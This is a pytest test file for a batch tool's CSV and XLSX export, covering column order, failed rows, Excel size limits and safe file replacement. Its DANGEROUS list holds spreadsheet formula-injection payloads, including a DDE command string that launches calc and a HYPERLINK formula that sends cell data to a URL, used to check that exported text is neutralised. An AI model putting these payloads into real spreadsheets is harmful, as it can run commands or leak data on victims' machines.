"""Results as a table: the same values come back, and no text becomes a formula."""

from __future__ import annotations

import builtins
import csv
import json
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dify_batch import tables
from dify_batch.errors import StorageError, UsageError
from dify_batch.export import export
from dify_batch.formats import BOM, Paths, json_line
from dify_batch.tables import MAX_CELL, csv_cell, units

FIXED = ["workflow_run_id", "executed_at", "retry_count", "elapsed_time", "total_tokens", "total_steps"]


def result(row_id: str, inputs: dict[str, Any], outputs: Any, **more: Any) -> dict[str, Any]:
    return {
        "id": row_id,
        "status": "success",
        "inputs": {"id": row_id} | inputs,
        "outputs": outputs,
        "workflow_run_id": f"run-{row_id}",
        "executed_at": "2026-11-22T02:00:00Z",
        "retry_count": 0,
        "elapsed_time": 1.5,
        "total_tokens": 7,
        "total_steps": 3,
        "task_id": f"task-{row_id}",
    } | more


def put(folder: Path, records: Sequence[dict[str, Any]], journal: Sequence[dict[str, Any]] = ()) -> Path:
    output = folder / "results.jsonl"
    output.write_bytes(BOM + b"".join(map(json_line, records)))
    Paths.of(output).journal.write_bytes(b"".join(json_line(record, compact=True) for record in journal))
    return output


def read_csv(path: Path) -> list[dict[str, str]]:
    data = path.read_bytes()
    assert data.startswith(BOM)
    assert not data[3:].startswith(BOM)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def read_xlsx(path: Path) -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    try:
        return [[cell.value for cell in row] for row in book.active.iter_rows()]  # type: ignore[union-attr]
    finally:
        book.close()


def undo(text: str) -> str:
    """A cell's text without the quote that made it safe."""
    return text[1:] if re.match("'+[=+\\-@\t\r\n＝＋－＠]", text) else text


def table(folder: Path, *records: dict[str, Any]) -> list[dict[str, str]]:
    output = put(folder, records)
    export(output, folder / "t.csv")
    return read_csv(folder / "t.csv")


# ---------------------------------------------------------------- columns


def test_columns_come_in_order_and_from_all_lines(tmp_path: Path) -> None:
    output = put(
        tmp_path,
        [
            result("a", {"q": "1"}, {"answer": "x"}),
            result("b", {"lang": "de"}, {"score": 0.5}, status="partial-success"),
        ],
    )
    report = export(output, tmp_path / "t.csv")
    header = ["id", "status", "error", "q", "lang", "answer", "score", *FIXED]
    assert list(report.columns) == header
    first, second = read_csv(tmp_path / "t.csv")
    assert list(first) == header
    assert first == dict.fromkeys(header, "") | {
        "id": "a",
        "status": "success",
        "q": "1",
        "answer": "x",
        "workflow_run_id": "run-a",
        "executed_at": "2026-11-22T02:00:00Z",
        "retry_count": "0",
        "elapsed_time": "1.5",
        "total_tokens": "7",
        "total_steps": "3",
    }
    assert (second["status"], second["lang"], second["score"], second["q"]) == ("partial-success", "de", "0.5", "")
    assert (report.rows, report.results, report.failed, report.left_out, report.notes) == (2, 2, 0, 0, ())


def test_names_get_a_prefix_only_where_they_clash(tmp_path: Path) -> None:
    row = result("a", {"text": "in", "status": "s", "only": "o"}, {"text": "out", "id": 5, "inputs.text": "odd"})
    (cells,) = table(tmp_path, row)
    assert (cells["text"], cells["only"], cells["inputs.status"], cells["outputs.id"]) == ("out", "o", "s", "5")
    assert cells["inputs.text"] == "odd"
    assert cells["inputs.inputs.text"] == "in"
    assert "inputs.id" not in cells


def test_an_input_id_that_is_not_the_rows_id_is_kept(tmp_path: Path) -> None:
    (cells,) = table(tmp_path, result("a", {"id": "other"}, {}))
    assert (cells["id"], cells["inputs.id"]) == ("a", "other")


def test_nested_values_are_json(tmp_path: Path) -> None:
    nested = {"a": [1, None, "ü"], "b": {"c": True}}
    (cells,) = table(tmp_path, result("a", {}, {"deep": nested, "yes": True, "nothing": None}))
    assert json.loads(cells["deep"]) == nested
    assert "ü" in cells["deep"]
    assert (cells["yes"], cells["nothing"]) == ("true", "")


def test_outputs_that_are_no_object(tmp_path: Path) -> None:
    (cells,) = table(tmp_path, result("a", {"q": "x"}, None))
    assert (cells["id"], cells["q"]) == ("a", "x")


# ---------------------------------------------------------------- failed rows


JOURNAL: list[dict[str, Any]] = [
    {"event": "batch", "batch": "b", "input": "data.csv", "at": "2026-11-22T02:00:00.000Z"},
    {"event": "sent", "id": "a", "attempt": 1, "user": "u", "at": "2026-11-22T02:00:00.000Z"},
    {"event": "sent", "id": "f", "attempt": 1, "user": "u", "at": "2026-11-22T02:00:00.000Z"},
    {"event": "started", "id": "f", "run": "run-f", "task": "t", "at": "2026-11-22T02:00:00.000Z"},
    {"event": "failed", "id": "f", "kind": "failed", "code": "run_failed", "message": "=boom()", "run": "run-f"},
    {"event": "sent", "id": "u", "attempt": 1, "user": "u", "at": "2026-11-22T02:00:00.000Z"},
    {"event": "failed", "id": "u", "kind": "unknown", "code": "outcome_unknown", "message": "closed log"},
    {"event": "sent", "id": "p", "attempt": 1, "user": "u", "at": "2026-11-22T02:00:00.000Z"},
    {"event": "paused", "id": "p", "run": "run-p", "task": "t", "forms": [], "at": "2026-11-22T02:00:00.000Z"},
    {"event": "failed", "id": "a", "kind": "failed", "code": "run_failed", "message": "earlier"},
]


def test_failed_rows_come_last_with_their_error(tmp_path: Path) -> None:
    output = put(tmp_path, [result("a", {"q": "1"}, {"answer": "x"})], JOURNAL)
    report = export(output, tmp_path / "t.csv")
    rows = read_csv(tmp_path / "t.csv")
    assert [row["id"] for row in rows] == ["a", "f", "u"]
    assert [row["status"] for row in rows] == ["success", "failed", "unknown"]
    assert [row["error"] for row in rows] == ["", "run_failed: =boom()", "outcome_unknown: closed log"]
    assert [row["workflow_run_id"] for row in rows] == ["run-a", "run-f", ""]
    assert (report.rows, report.results, report.failed, report.left_out) == (3, 1, 2, 1)
    assert "3 rows (2 of them failed)" in report.text()
    assert "1 row paused or in flight" in report.text()
    json.dumps(report.as_dict())


def test_a_batch_of_which_every_row_failed(tmp_path: Path) -> None:
    output = put(tmp_path, [], JOURNAL)
    output.unlink()
    report = export(output, tmp_path / "t.xlsx")
    rows = [row[:2] for row in read_xlsx(tmp_path / "t.xlsx")[1:]]
    assert rows == [["a", "failed"], ["f", "failed"], ["u", "unknown"]]
    assert report.results == 0


def test_a_torn_line_and_a_foreign_one_are_left_out_and_named(tmp_path: Path) -> None:
    output = put(tmp_path, [result("a", {}, {"x": 1})])
    with output.open("ab") as file:
        file.write(b"not json\n" + json_line(result("b", {}, {"x": 2})) + b'{"id": "c", "st')
    report = export(output, tmp_path / "t.csv")
    assert [row["id"] for row in read_csv(tmp_path / "t.csv")] == ["a", "b"]
    assert report.notes == (f"{output}, line 2: not a result, left out",)


# ---------------------------------------------------------------- formulas


DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    '=HYPERLINK("http://example.com/?"&A1)',
    "+49 30 1234",
]
HARMLESS = ["", "a=b", "1-2", "-5", "-0.5e3", "'quoted'", "''", "x@example.com", " =1", "#N/A", "ü"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_would_be_a_formula_is_made_safe(tmp_path: Path, text: str) -> None:
    (cells,) = table(tmp_path, result("a", {"q": text}, {text: text}))
    assert cells["q"] == "'" + text
    assert cells["'" + text] == "'" + text
    assert undo(cells["q"]) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(tmp_path: Path, text: str) -> None:
    (cells,) = table(tmp_path, result("a", {"q": text}, {}))
    assert cells["q"] == text


@pytest.mark.parametrize("number", [-5, 0, 12, -1.25, 1e300, 3.0])
def test_numbers_stay_numbers(tmp_path: Path, number: float) -> None:
    (cells,) = table(tmp_path, result("a", {"q": number}, {}))
    assert not cells["q"].startswith("'")
    assert float(cells["q"]) == number


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS])
def test_a_text_in_xlsx_is_a_text(tmp_path: Path, text: str) -> None:
    output = put(tmp_path, [result("a", {"q": text}, {})])
    export(output, tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cell = book.active["D2"]  # type: ignore[index]
    assert cell.data_type in ("s", "inlineStr")
    assert (cell.value or "") in (text, text.replace("\r", "\n"))  # an XML reader makes one of the other
    book.close()


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)
_VALUES = st.dictionaries(st.text(alphabet=st.characters(codec="utf-8"), max_size=8), _JSON, max_size=4)


def comparable(value: Any) -> str:
    """What a cell of the value must come back as, once made unsafe again."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    return json.dumps(value, ensure_ascii=False)


@settings(max_examples=150, deadline=None)
@given(rows=st.lists(st.tuples(_VALUES, _VALUES), min_size=1, max_size=4))
def test_the_same_values_come_back(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[dict[str, Any], dict[str, Any]]]
) -> None:
    folder = tmp_path_factory.mktemp("round")
    records = [result(f"r{n}", inputs | {"id": f"r{n}"}, outputs) for n, (inputs, outputs) in enumerate(rows)]
    output = put(folder, records)
    report = export(output, folder / "t.csv")
    with (folder / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *lines = csv.reader(file, strict=True)
    assert [undo(name) for name in header] == list(report.columns)
    assert len(set(report.columns)) == len(report.columns)
    inputs = list(dict.fromkeys(name for row in rows for name in row[0] if name != "id"))
    outputs = list(dict.fromkeys(name for row in rows for name in row[1]))
    assert len(lines) == len(rows)
    for line, record in zip(lines, records, strict=True):
        wanted = [record["id"], "success", ""]
        wanted += [comparable(record["inputs"].get(name)) for name in inputs]
        wanted += [comparable(record["outputs"].get(name)) for name in outputs]
        assert [undo(cell) for cell in line[: len(wanted)]] == wanted


@given(st.text())
def test_making_safe_can_be_undone_and_leaves_no_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert undo(cell) == text
    assert cell[:1] not in ("=", "+", "@", "\t", "\r")
    if cell.startswith("-"):
        float(cell)


# ---------------------------------------------------------------- xlsx


def test_xlsx_has_the_same_table_with_types(tmp_path: Path) -> None:
    output = put(
        tmp_path, [result("a", {"q": "0012"}, {"n": 5, "f": 0.5, "yes": True, "deep": [1], "none": None})], JOURNAL
    )
    export(output, tmp_path / "t.xlsx")
    header, first, failed, _ = read_xlsx(tmp_path / "t.xlsx")
    cells = dict(zip(header, first, strict=True))
    assert (cells["q"], cells["n"], cells["f"], cells["yes"], cells["deep"]) == ("0012", 5, 0.5, True, "[1]")
    assert cells["none"] is None
    assert failed[:3] == ["f", "failed", "run_failed: =boom()"]


def test_a_number_that_excel_would_round_is_a_text(tmp_path: Path) -> None:
    output = put(tmp_path, [result("a", {}, {"n": 12345678901234567890})])
    export(output, tmp_path / "t.xlsx")
    assert read_xlsx(tmp_path / "t.xlsx")[1][3] == "12345678901234567890"


def test_what_xlsx_cannot_hold_is_said(tmp_path: Path) -> None:
    long = "😀" * MAX_CELL
    output = put(tmp_path, [result("a", {}, {"x": "a\x00b\x0b\ud800"}), result("b", {}, {"x": long})])
    report = export(output, tmp_path / "t.xlsx")
    _, first, second = read_xlsx(tmp_path / "t.xlsx")
    assert first[3] == "a\ufffdb\ufffd\ufffd"
    assert units(second[3]) <= MAX_CELL
    assert second[3].startswith("😀😀")
    assert second[3].endswith(f"[cut: {2 * MAX_CELL:,} characters; all of them: line 2 of {output}]")
    assert len(report.notes) == 2
    assert f"the first in line 2 of {output}" in report.notes[0]
    # A .csv has it whole, and says that Excel will not show it.
    report = export(output, tmp_path / "t.csv")
    assert read_csv(tmp_path / "t.csv")[1]["x"] == long
    assert "1 cells have more than 32,767 characters" in report.notes[0]


@pytest.mark.parametrize("length", [MAX_CELL, MAX_CELL + 1])
def test_the_longest_cell(tmp_path: Path, length: int) -> None:
    output = put(tmp_path, [result("a", {}, {"x": "x" * length})])
    notes = export(output, tmp_path / "t.xlsx").notes
    text = read_xlsx(tmp_path / "t.xlsx")[1][3]
    assert len(text) == MAX_CELL
    assert (text == "x" * MAX_CELL) == (notes == ()) == (length == MAX_CELL)


def test_too_many_rows_for_xlsx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MAX_ROWS", 3)
    output = put(tmp_path, [result(name, {}, {"x": 1}) for name in "ab"])
    assert export(output, tmp_path / "t.xlsx").rows == 2
    before = (tmp_path / "t.xlsx").read_bytes()
    output = put(tmp_path, [result(name, {}, {"x": 1}) for name in "abc"])
    with pytest.raises(UsageError, match="more rows than") as error:
        export(output, tmp_path / "t.xlsx")
    assert "table.csv" in str(error.value.hint)
    assert (tmp_path / "t.xlsx").read_bytes() == before
    assert [path.name for path in tmp_path.iterdir() if path.name.endswith(".new")] == []
    assert "Excel opens the first 3" in export(output, tmp_path / "t.csv").notes[0]


def test_too_many_columns_for_xlsx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MAX_COLUMNS", 10)
    output = put(tmp_path, [result("a", {"q": 1}, {"x": 1})])
    with pytest.raises(UsageError, match="11 columns"):
        export(output, tmp_path / "t.xlsx")


def test_without_openpyxl(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *rest: Any) -> Any:
        if name.split(".")[0] == "openpyxl":
            raise ImportError(name)
        return real(name, *rest)

    monkeypatch.setattr(builtins, "__import__", without)
    output = put(tmp_path, [result("a", {}, {})])
    with pytest.raises(UsageError) as error:
        export(output, tmp_path / "t.xlsx")
    assert "pip install 'dify-batch[xlsx]'" in str(error.value.hint)
    assert export(output, tmp_path / "t.csv").rows == 1


# ---------------------------------------------------------------- targets


def test_the_target_is_replaced_and_the_results_stay(tmp_path: Path) -> None:
    output = put(tmp_path, [result("a", {}, {"x": 1})])
    before = output.read_bytes()
    (tmp_path / "t.csv").write_text("old")
    export(output, tmp_path / "t.csv")
    assert read_csv(tmp_path / "t.csv")[0]["x"] == "1"
    assert output.read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["results.jsonl", "results.jsonl.journal", "t.csv"]


def test_a_file_of_the_batch_is_no_target(tmp_path: Path) -> None:
    odd = put(tmp_path, [result("a", {}, {})]).rename(tmp_path / "results.csv")
    (tmp_path / "link.csv").symlink_to(odd)
    (tmp_path / "hard.csv").hardlink_to(odd)
    before = odd.read_bytes()
    for name in ("results.csv", "link.csv", "hard.csv"):
        with pytest.raises(UsageError, match="file of the batch itself"):
            export(odd, tmp_path / name)
    assert odd.read_bytes() == before


@pytest.mark.parametrize(
    ("target", "words"),
    [
        ("t.txt", "written as .csv or .xlsx"),
        ("t", "written as .csv or .xlsx"),
        ("nowhere/t.csv", "there is no folder"),
        ("folder.csv", "is a folder"),
    ],
)
def test_targets_that_cannot_be(tmp_path: Path, target: str, words: str) -> None:
    output = put(tmp_path, [result("a", {}, {})])
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(UsageError, match=words) as error:
        export(output, tmp_path / target)
    assert error.value.hint


def test_no_such_batch(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="there is no batch of that name"):
        export(tmp_path / "nothing.jsonl", tmp_path / "t.csv")
    assert list(tmp_path.iterdir()) == []


def test_a_full_disk_leaves_the_old_table(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    output = put(tmp_path, [result("a", {}, {})])
    (tmp_path / "t.csv").write_text("old")
    monkeypatch.setattr("dify_batch.export.os.fsync", full)
    with pytest.raises(StorageError, match="No space left"):
        export(output, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "old"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["results.jsonl", "results.jsonl.journal", "t.csv"]
